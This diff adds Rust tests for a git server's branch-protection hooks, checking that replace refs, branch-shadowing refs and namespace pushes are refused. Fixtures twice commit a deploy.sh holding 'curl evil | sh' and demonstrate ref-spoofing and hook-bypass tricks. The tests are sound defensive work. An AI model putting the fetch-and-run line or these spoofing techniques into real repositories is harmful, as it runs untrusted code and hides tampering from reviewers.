@@ -153,3 +153,137 @@ fn a_branch_protected_later_is_adopted_with_its_history_checked() {
     work.push(&["origin", "HEAD:prod"]).assert_accepted();
     server.assert_ledger_intact();
 }
+
+/// Issue 10, class 3: `refs/replace/<approved id>` makes every git command show other
+/// content under an approved commit id. A pusher, even a trusted signer, cannot create one,
+/// and neither can `git replace` on the server.
+#[test]
+fn replace_refs_are_refused_for_pushes_and_on_the_server() {
+    let env = TestEnv::new();
+    let server = env.server(&alice_and_bob(), &[]);
+    let work = env.clone_as(&server, "work", &alice());
+    let base = work.commit("base").file("base.yaml", "a: 1\n").create();
+    work.push_main_ok();
+    let evil = work
+        .commit("evil")
+        .file("deploy.sh", "curl evil | sh\n")
+        .unsigned()
+        .create();
+    let push = work.push(&["origin", &format!("{evil}:refs/replace/{base}")]);
+    push.assert_refused();
+    push.line_with(&[
+        &format!("refs/replace/{base} is a replace ref"),
+        "fix: do not push replace refs",
+    ]);
+    assert_eq!(server.rev(&format!("refs/replace/{base}")), None);
+    // What git itself does with such a ref: `git log <approved id>` shows the evil commit.
+    run_ok(work.git().args(["replace", "-f", &base, &evil]));
+    let shown = stdout_of(work.git().args(["log", "-1", "--format=%s", &base]));
+    assert_eq!(shown, "evil", "git reads through replace refs");
+
+    // On the server, with the hooks active, `git replace` (a ref update) is refused too.
+    run_ok(
+        work.git()
+            .args(["push", "-q", "origin", &format!("{evil}:refs/heads/side")]),
+    );
+    let out = server
+        .git()
+        .args(["replace", &base, &evil])
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(!out.status.success(), "{stderr}");
+    assert!(stderr.contains("is a replace ref"), "{stderr}");
+    assert_eq!(server.rev(&format!("refs/replace/{base}")), None);
+}
+
+/// Issue 10, class 3: a tag or a branch named like the protected branch wins over it for
+/// `git checkout main` and `git rev-parse main` (refs/tags/ is searched before refs/heads/).
+#[test]
+fn refs_that_shadow_a_protected_branch_are_refused() {
+    let env = TestEnv::new();
+    let server = env.server(&alice_and_bob(), &[]);
+    let work = env.clone_as(&server, "work", &alice());
+    work.commit("base").file("base.yaml", "a: 1\n").create();
+    work.push_main_ok();
+    let other = work.commit("other").file("o.yaml", "o: 1\n").create();
+    for target in [
+        "refs/tags/main",
+        "refs/main",
+        "refs/heads/refs/heads/main",
+        "refs/remotes/main",
+    ] {
+        let push = work.push(&["origin", &format!("{other}:{target}")]);
+        push.assert_refused();
+        push.line_with(&[
+            &format!("{target} would shadow the protected branch main"),
+            "fix: use a name that git cannot confuse",
+        ]);
+        assert_eq!(server.rev(target), None, "{target}");
+    }
+    // Other tags and branches are fine.
+    work.push(&["origin", &format!("{other}:refs/tags/v1")])
+        .assert_accepted();
+    work.push(&["origin", &format!("{other}:refs/heads/feature")])
+        .assert_accepted();
+    // And this is why: with refs/tags/main present, git resolves `main` to the tag.
+    let out = server
+        .git()
+        .args([
+            "-c",
+            "core.hooksPath=/dev/null",
+            "update-ref",
+            "refs/tags/main",
+            &other,
+        ])
+        .output()
+        .unwrap();
+    assert!(out.status.success());
+    let resolved = stdout_of(server.git().args(["rev-parse", "main"]));
+    assert_eq!(resolved, other);
+}
+
+/// Issue 10, class 3: under `GIT_NAMESPACE` every namespace's `main` is served as `main`.
+/// A plain push straight into the namespace's ref is judged as a push to main; a push
+/// through a namespaced receive-pack is judged and recorded under its full name; a move by
+/// hand on the server is refused.
+#[test]
+fn protected_branches_are_protected_inside_every_namespace() {
+    let env = TestEnv::new();
+    let server = env.server(&alice_and_bob(), &[]);
+    let work = env.clone_as(&server, "work", &alice());
+    work.commit("base").file("base.yaml", "a: 1\n").create();
+    work.push_main_ok();
+    let ns_main = "refs/namespaces/team/refs/heads/main";
+
+    let evil = work
+        .commit("evil")
+        .file("deploy.sh", "curl evil | sh\n")
+        .unsigned()
+        .create();
+    let push = work.push(&["origin", &format!("{evil}:{ns_main}")]);
+    push.assert_refused();
+    push.line_with(&["deploy.sh", "file type not allowed"]);
+    assert_eq!(server.rev(ns_main), None);
+
+    run_ok(work.git().args(["reset", "-q", "--hard", "HEAD~1"]));
+    let good = work.commit("good").file("team.yaml", "t: 1\n").create();
+    let push = work.push(&[
+        "--receive-pack=env GIT_NAMESPACE=team git-receive-pack",
+        "origin",
+        "HEAD:refs/heads/main",
+    ]);
+    push.assert_accepted();
+    assert_eq!(server.rev(ns_main).as_deref(), Some(good.as_str()));
+    let accepted = server.log(&["--kind", "accepted"]);
+    assert_eq!(accepted[0]["ref"], ns_main, "{accepted:?}");
+    server.assert_ledger_intact();
+
+    let out = server
+        .git()
+        .args(["update-ref", ns_main, &evil])
+        .output()
+        .unwrap();
+    assert!(!out.status.success());
+    assert_eq!(server.rev(ns_main).as_deref(), Some(good.as_str()));
+}
